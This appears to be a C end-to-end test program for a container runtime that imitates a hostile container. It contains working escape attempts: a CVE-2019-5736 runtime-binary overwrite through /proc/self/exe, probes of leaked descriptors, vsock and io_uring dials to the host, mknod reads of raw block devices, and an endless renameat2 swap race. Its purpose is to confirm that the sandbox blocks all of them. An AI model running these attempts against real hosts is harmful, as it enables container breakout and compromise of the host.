/*
 * tests/e2e/guest/escape.c - what a hostile container tries
 *
 * usage: escape fds		names of open descriptors and of the working folder
 *	  escape dial		connect to the host's bridge port, in all ways
 *	  escape mknod		make a node of every block device and read it
 *	  escape swap A B	exchange two names for ever
 *
 * As the loader of /bin/evil it tries to overwrite the runtime (CVE-2019-5736),
 * see overwrite(). Prints what it got, ends with 0 when it got nothing.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include <linux/vm_sockets.h>

#define BRIDGE_PORT 0x40000000u
#define MINORS 4
#define OVERWRITE_MS 2000

static int read_link(int dir, const char *name, char *out, size_t size)
{
	const ssize_t n = readlinkat(dir, name, out, size - 1);

	out[n > 0 ? n : 0] = '\0';
	return n > 0 ? 0 : -1;
}

/* --- the runtime's own file ------------------------------------------------------ */

/*
 * The container asked the runtime to execute "#!/proc/self/exe", which is the
 * runtime itself, and has put this program in the place of its loader: we are
 * the runtime now. Its file is kept open, and written when nobody runs it.
 */
static int overwrite(const char *log)
{
	const int kept = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	const struct timespec pause = { .tv_nsec = 1000000 };
	char exe[300], path[64];
	int result = open(log, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	int got = 0;

	(void)read_link(AT_FDCWD, "/proc/self/exe", exe, sizeof(exe));
	(void)dprintf(result, "we are %s\n", exe);
	if (kept < 0 || fork() != 0)
		return 0;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", kept);
	for (int i = 0; i < OVERWRITE_MS && !got; i++) {
		const int fd = open(path, O_WRONLY | O_CLOEXEC);

		got = fd >= 0 && write(fd, "overwritten", 11) == 11;
		(void)close(fd);
		(void)nanosleep(&pause, NULL);
	}
	(void)dprintf(result, "%s\nend\n", got ? "overwritten" : "in vain");
	return 0;
}

/* --- what was left open ------------------------------------------------------------ */

static int descriptors(void)
{
	char path[300], cwd[300];
	DIR *d = opendir("/proc/self/fd");
	const struct dirent *entry;
	int got = 0;

	while (d && (entry = readdir(d))) {
		const int fd = atoi(entry->d_name);

		if (entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
			continue;
		(void)read_link(dirfd(d), entry->d_name, path, sizeof(path));
		printf("descriptor %d: %s\n", fd, path);
		got++;
	}
	if (!getcwd(cwd, sizeof(cwd)) || cwd[0] != '/') {
		printf("working directory: outside\n");
		got++;
	}
	return got != 0;
}

/* --- the host ------------------------------------------------------------------------ */

static int dial_with(long family)
{
	const struct sockaddr_vm host = {
		.svm_family = AF_VSOCK,
		.svm_cid = VMADDR_CID_HOST,
		.svm_port = BRIDGE_PORT,
	};
	const int fd = (int)syscall(SYS_socket, family, SOCK_STREAM, 0);

	if (fd < 0) {
		printf("socket: %s\n", strerror(errno));
		return 0;
	}
	printf("a socket\n");
	if (connect(fd, (const struct sockaddr *)&host, sizeof(host)) == 0)
		printf("connected to the host\n");
	return 1;
}

static int dial(void)
{
	char params[256] = { 0 };
	int got = dial_with(AF_VSOCK) | dial_with(0x100000000L + AF_VSOCK);

	if (syscall(425, 8, params) >= 0) {
		printf("a ring\n");
		got = 1;
	}
	return got;
}

/* --- disks ------------------------------------------------------------------------------ */

/* Majors of block devices by /proc/devices, and a few minors of each. */
static int nodes(void)
{
	FILE *f = fopen("/proc/devices", "re");
	char line[128], byte;
	int block = 0, got = 0, tried = 0;
	unsigned int major_;

	while (f && fgets(line, sizeof(line), f)) {
		if (strncmp(line, "Block", 5) == 0)
			block = 1;
		if (!block || sscanf(line, "%u", &major_) != 1)
			continue;
		for (unsigned int i = 0; i < MINORS; i++) {
			int fd;

			(void)unlink("/node");
			tried++;
			if (mknod("/node", S_IFBLK | 0600, makedev(major_, i)) <
			    0)
				continue;
			fd = open("/node", O_RDONLY | O_CLOEXEC);
			if (fd < 0 && (errno == EPERM || errno == EACCES))
				continue;
			if (fd < 0 && errno != EPERM)
				continue;
			printf("block device %u:%u opened, read %zd\n", major_,
			       i, read(fd, &byte, 1));
			got = 1;
			(void)close(fd);
		}
	}
	if (f)
		(void)fclose(f);
	printf("%d tried\n", tried);
	return got || tried == 0;
}

static int swap(const char *a, const char *b)
{
	for (;;)
		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
	return 1;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "/bin/evil") == 0)
		return overwrite("/watch");
	if (strcmp(what, "fds") == 0)
		return descriptors();
	if (strcmp(what, "dial") == 0)
		return dial();
	if (strcmp(what, "mknod") == 0)
		return nodes();
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	return 2;
}
